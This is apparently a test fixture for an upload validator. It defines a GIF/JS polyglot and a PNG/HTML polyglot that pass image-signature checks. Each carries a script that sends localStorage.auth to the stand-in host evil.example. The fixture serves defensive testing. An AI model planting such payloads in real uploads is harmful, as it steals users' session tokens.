/**
 * Files that start with an image's signature and go on as something a browser would run:
 * the first bytes of a GIF are also the start of a valid script, and a page sniffed as HTML
 * runs its script tags. A check of the signature alone lets both through.
 */
export const POLYGLOTS = [
  {
    kind: 'GIF/JS',
    bytes: Buffer.from('GIF89a=1;fetch("//evil.example/?"+localStorage.auth)//', 'latin1'),
    filename: 'photo.gif',
    contentType: 'image/gif',
  },
  {
    kind: 'PNG/HTML',
    bytes: Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      Buffer.from('<html><script>fetch("//evil.example/?"+localStorage.auth)</script></html>'),
    ]),
    filename: 'photo.png',
    contentType: 'image/png',
  },
];
